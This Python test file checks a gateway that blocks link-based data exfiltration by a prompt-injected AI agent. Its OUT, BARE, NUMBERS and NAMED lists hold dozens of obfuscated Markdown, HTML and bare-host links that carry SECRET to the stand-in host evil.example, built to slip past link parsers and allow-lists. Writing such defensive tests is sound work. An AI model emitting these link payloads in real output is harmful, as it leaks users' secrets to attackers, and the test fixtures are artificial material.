"""Links whose host two readers see differently. The attacker controls the text of a comment (a hijacked agent writes
it) and a host of their own; the policy lets links to one host of the operator's pass. Whatever a browser or a Markdown
renderer makes of the text, a link to the attacker's host is a way out: the call is denied and on record.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from jinja2.utils import urlize
from linkify_it import LinkifyIt
from markdown_it import MarkdownIt
from mdit_py_plugins.gfm_autolink import gfm_autolink_plugin

from law_examples import examples
from sentinel_rag.contracts.tool_calls import Allow, ToolSchema
from sentinel_rag.gateway.flow import judge
from sentinel_rag.gateway.flow.judging import facts_of
from sentinel_rag.gateway.flow.links import is_allowed, linked_hosts
from sentinel_rag.gateway.policy import Policy, parse_policy
from sentinel_rag.surfaces.cli.approvals import page
from sentinel_rag_testing.fake_tool_server import FakeToolServer
from sentinel_rag_testing.running_gateway import RunningGateway, running_gateway

OURS = frozenset({"contoso.example"})
POLICY = """
tools:
  - name: read_secret
    effect: read
    taint_rules: [{rule_id: read_secret_any, condition: "true", taint_level: HIGH}]
  - name: comment
    effect: write
    parameters:
      - {name: message, type: string, required: true, accepts: {sensitivity: HIGH, integrity: UNTRUSTED}}
    taint_rules: [{rule_id: comment_any, condition: "true", taint_level: LOW}]
link_hosts: [contoso.example]
"""

OUT = [
    # Markdown takes the backslash away, so what looked like a path is a user name.
    r"[x](https://contoso.example\@evil.example/?d=SECRET)",
    "![x](https://contoso.example&#92;@evil.example/?d=SECRET)",
    "[a]\n\n[a]: https\\://SECRET.evil.example",
    "![x](https://contoso.example<@evil.example/x)",
    "![x](https://contoso.example>@evil.example/x)",
    "![x](//<@evil.example/x)",
    # Blanks that only some take for one.
    "[x](https://contoso.example\u00a0@evil.example/x)",
    "[x](https://contoso.example\u2003@evil.example/x)",
    "[x](https://contoso.example\v@evil.example/x)",
    "[x](http:\\\t@evil.example/x)",
    "[x](https://contoso.example\\\t@evil.example/x)",
    "[x](https://contoso.example&#9;@evil.example/x)",
    "[x](https://contoso.example&NewLine;@evil.example/x)",
    "[x](<https://contoso.example \\ @evil.example/x>)",
    # HTML: what stands in a user name between quotes, or without any.
    '<a href="https://contoso.example<@evil.example/x">x</a>',
    "<a href='https://contoso.example\"<>@evil.example/x'>x</a>",
    "<a href=https://contoso.example<@evil.example/x>x</a>",
    '<img src="/\\>@evil.example/x">',
    "<img src=https:/&#9;/SECRET.evil.example>",
]
BARE = [
    # No scheme: what chat, mail and ticket programs make a link of by themselves.
    *("evil.example", "open data-42.evil.example now", "EVIL.EXAMPLE.", "(evil.example)", "“evil.example”"),
    *("evil.example|", "<evil.example|wiki>", "<a@evil.example>", "SECRET@evil.example", "mail a@evil.example, please"),
    *("...www.evil.example", "-www.evil.example", "1www.evil.example", "WWW2.evil.example", "ftp.evil.example"),
    *("evil.example—and so on", "evil.example.Then", "evil\u3002example", "evil.exam\u200bple", "ｅvil.ｅxample"),
    *("see:evil.example", "x=evil.example;", "`evil.example`", "*evil.example*", "_evil.example_", "#evil.example"),
    *("contoso.example.evil.example", "contoso.example—evil.example", "evil%2Eexample", "evil&#46;example"),
]
NUMBERS = [
    *("203.0.113.7/login", "203.0.113.7:8080/x", "203.0.113.7", "(203.0.113.7)", "SECRET@203.0.113.7"),
    *("[::1]/x", "[2001:db8::7]:80", "2001:db8::7", "::ffff:203.0.113.7", "tel:+4930123456", "sms:+4930123456"),
]
WITHIN = [
    "See https://contoso.example/runbook and write to it@contoso.example.",
    '"https://contoso.example", then "mail me@contoso.example"',
    "At 12:30:45, version 1.2.3 of report.docx, e.g. in No.7 and i.e. p.m.; contoso.example, “contoso.example”",
    "[runbook](https://contoso.example/a\\_b)",
    "It ran C:\\Users\\me\\a.exe on dc-01.",
]


@pytest.mark.requirement("TAINT-4")
@pytest.mark.parametrize("text", OUT, ids=ascii)
def test_a_link_to_the_attacker_is_seen_in_whatever_way_it_is_written(text: str) -> None:
    assert any(host.endswith("evil.example") for host in linked_hosts(text))


@pytest.mark.requirement("TAINT-4")
@pytest.mark.parametrize("text", BARE, ids=ascii)
def test_a_host_without_a_scheme_is_a_link(text: str) -> None:
    assert any(host.strip("_").endswith("evil.example") for host in linked_hosts(text))


@pytest.mark.requirement("TAINT-4")
@pytest.mark.parametrize("text", NUMBERS, ids=ascii)
def test_an_address_of_numbers_is_a_link_to_no_known_host(text: str) -> None:
    assert any(not is_allowed(host, OURS) for host in linked_hosts(text))


def by_linkify_it(text: str) -> list[str]:
    found = LinkifyIt(options={"fuzzy_link": True, "fuzzy_email": True, "fuzzy_ip": True}).match(text)
    return [match.url for match in found or ()]


def by_github(text: str) -> list[str]:
    tokens = MarkdownIt().use(gfm_autolink_plugin).parseInline(text)
    return [str(child.attrs["href"]) for token in tokens for child in token.children or () if child.type == "link_open"]


def by_jinja(text: str) -> list[str]:
    return re.findall(r'href="([^"]*)"', urlize(text))


PARTS = st.sampled_from(
    (
        *(
            "evil",
            "www",
            "data-42",
            "a",
            "x1",
            "é",
            "💩",
            "com",
            "org",
            "la",
            "example",
            "museum",
            "xn--p1ai",
            "рф",
            "123",
        ),
        *(
            ".",
            ".",
            ".",
            "..",
            "@",
            "/",
            ":",
            "-",
            "_",
            "?",
            "#",
            "=",
            "|",
            ",",
            ";",
            "!",
            "(",
            ")",
            "<",
            ">",
            "[",
            "]",
        ),
        *('"', "'", "“", "”", "*", "`", "~", "&", "%", "—", "…", "。", " ", " ", "\n", "\u200b", "\u00a0"),
        *("https://", "http:", "mailto:", "ftp://", "//", "203.0.113.7", "::1", "8080", "xmpp:", "tel:"),
    )
)


@pytest.mark.slow
@pytest.mark.requirement("TAINT-4")
@pytest.mark.parametrize("linkify", [by_linkify_it, by_github, by_jinja])
@settings(max_examples=examples(1_500, 200), deadline=None)
@given(parts=st.lists(PARTS, min_size=2, max_size=14))
def test_whatever_a_public_linkifier_makes_a_link_of_is_one(
    linkify: Callable[[str], list[str]], parts: list[str]
) -> None:
    """Three programs that draw links for people: linkify-it, GitHub's autolinks and Jinja's urlize."""
    text = "".join(parts)
    if any(re.search(r"\w", re.sub(r"^[a-z+.-]+:", "", url)) for url in linkify(text)):  # "https:///" leads nowhere
        assert linked_hosts(text)


@pytest.mark.parametrize("text", WITHIN, ids=ascii)
def test_a_link_to_the_operator_s_own_host_is_none_of_these(text: str) -> None:
    assert all(is_allowed(host, OURS) for host in linked_hosts(text))


@dataclass(frozen=True)
class Desk:
    policy: Policy
    gateway: RunningGateway
    executor: FakeToolServer


@pytest.fixture(scope="module")
def desk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Desk]:
    schemas = [
        ToolSchema("read_secret", "Reads.", {"type": "object", "properties": {}}),
        ToolSchema("comment", "Comments.", {"type": "object", "properties": {"message": {"type": "string"}}}),
    ]
    executor = FakeToolServer(schemas)
    folder: Path = tmp_path_factory.mktemp("links")
    policy = parse_policy(POLICY, source="links.yaml")
    with executor.running(), running_gateway(policy, folder, executor) as gateway:
        assert gateway.call("read_secret", {}).status == 200
        yield Desk(policy, gateway, executor)


@pytest.mark.requirement("TAINT-4")
@pytest.mark.parametrize("text", [OUT[0], OUT[6], OUT[13], *BARE[:8], *NUMBERS[:3]], ids=ascii)
def test_such_a_comment_is_denied_and_on_record(desk: Desk, text: str) -> None:
    answer = desk.gateway.call("comment", {"message": text})
    assert (answer.status, answer.body["reason"]) == (403, "sink_label")
    record = desk.gateway.last_record()
    assert (record["kind"], record["tool"], record["reason"]) == ("refusal", "comment", "sink_label")
    assert record["arguments"] == {"message": text}


def test_a_comment_with_the_operator_s_link_passes(desk: Desk) -> None:
    assert desk.gateway.call("comment", {"message": WITHIN[0]}).status == 200


@pytest.mark.requirement("APPR-1")
def test_the_person_who_decides_is_told_of_the_link(tmp_path: Path) -> None:
    """A text that the tool would take without it: what makes it a way out is the link, and both pages say so."""
    policy = POLICY.replace("taint_level: LOW}]\nlink", "taint_level: LOW, offers_approval: true}]\nlink")
    schemas = [
        ToolSchema("read_secret", "Reads.", {"type": "object", "properties": {}}),
        ToolSchema("comment", "Comments.", {"type": "object", "properties": {"message": {"type": "string"}}}),
    ]
    with (
        FakeToolServer(schemas).running() as executor,
        running_gateway(parse_policy(policy, source="links.yaml"), tmp_path, executor) as gateway,
    ):
        assert gateway.call("read_secret", {}).status == 200
        denied = gateway.call("comment", {"message": "See https://evil.example/?d=SECRET"})
        assert denied.body["reason"] == "approval_required"
        approval_id = denied.body["approval_id"]
        shown = gateway.request("GET", f"/v1/approvals/{approval_id}", key=gateway.approver).body
        assert [violation["link"] for violation in shown["violations"]] == [True]
        assert "may carry data out by a link in it" in page(shown, width=100, now=datetime.now(UTC))
        assert shown["arguments"] == {"message": "See https://evil.example/?d=SECRET"}


NAMED_HOST = "https://evil.example/?d=SECRET"
NAMED = [
    # words of the person, a comment, whether it passes
    ("Is the host evil.example known?", f"Seen: {NAMED_HOST}", False),
    ("Is the host evil.example known?", "Seen: https://evil.example/ today", True),
    ("Comment https://evil.example/a on it", "See https://evil.example/a.", True),
    ("Comment https://evil.example/a on it", "[a](https://evil.example/a)", True),
    ("Comment https://evil.example/a on it", "See https://evil.example/a?d=SECRET", False),
    ("Comment https://evil.example/a on it", "See https://evil.example/aSECRET", False),
    ("Comment https://evil.example/a on it", "See https://evil.example/a/SECRET", False),
    ("Comment https://evil.example/a on it", "See https://evil.example/a,SECRET", False),
    ("Comment https://evil.example/a on it", 'See "https://evil.example/a", please', True),
    ("Comment https://evil.example/a on it", 'See "https://evil.example/a"SECRET', False),
    ("Comment https://evil.example/a on it", "See *https://evil.example/a*SECRET", False),
    ("Comment https://evil.example/a on it", "See (https://evil.example/a)SECRET", False),
    # A reader of HTML takes the line break out and reads on.
    ("Comment https://evil.example/a on it", '<img src="https://evil.example/a\n?d=SECRET">', False),
    ("Comment https://evil.example/a on it", '<img src=" https://evil.example/a\nSECRET">', False),
    ("Comment https://evil.example/a on it", '&lt;img src=" https://evil.example/a\nSECRET">', False),
    ("Comment https://evil.example/a on it", "See https://evil.example/a and //SECRET.evil.example", False),
    ("Comment https://evil.example/a on it", "https://other.example/?u=https://evil.example/a", False),
]


@pytest.mark.requirement("TAINT-4")
@pytest.mark.parametrize(("words", "text", "passes"), NAMED, ids=ascii)
def test_an_address_of_the_person_s_is_theirs_whole_and_on_record(
    desk: Desk, words: str, text: str, passes: bool
) -> None:
    """A hijacked agent adds what it has read to an address, or to a host, that the person only spoke of."""
    gateway = desk.gateway
    session = gateway.open_session()
    assert gateway.say(session, words)
    assert gateway.call("read_secret", {}, session_id=session).status == 200
    answer = gateway.call("comment", {"message": text}, session_id=session)
    assert (answer.status == 200) is passes
    if passes:  # an exception, and one by which the record is judged to the same verdict again
        audit_id = answer.body["audit_id"]
        intent = next(r for r in gateway.records() if r.get("audit_id") == audit_id and "flow" in r)
        assert [(each["kind"], each["by"]) for each in intent["flow"]["links"]] in (
            [("url", "user")],
            [("host", "user")],
            [("host", "user"), ("url", "user")],
            [("url", "user"), ("host", "user")],
        )
        again = judge(desk.policy, desk.policy.tools["comment"], {"message": text}, facts_of(intent))
        assert isinstance(again.decision, Allow)
    else:
        assert gateway.last_record()["flow"]["violations"][0]["link"] is True
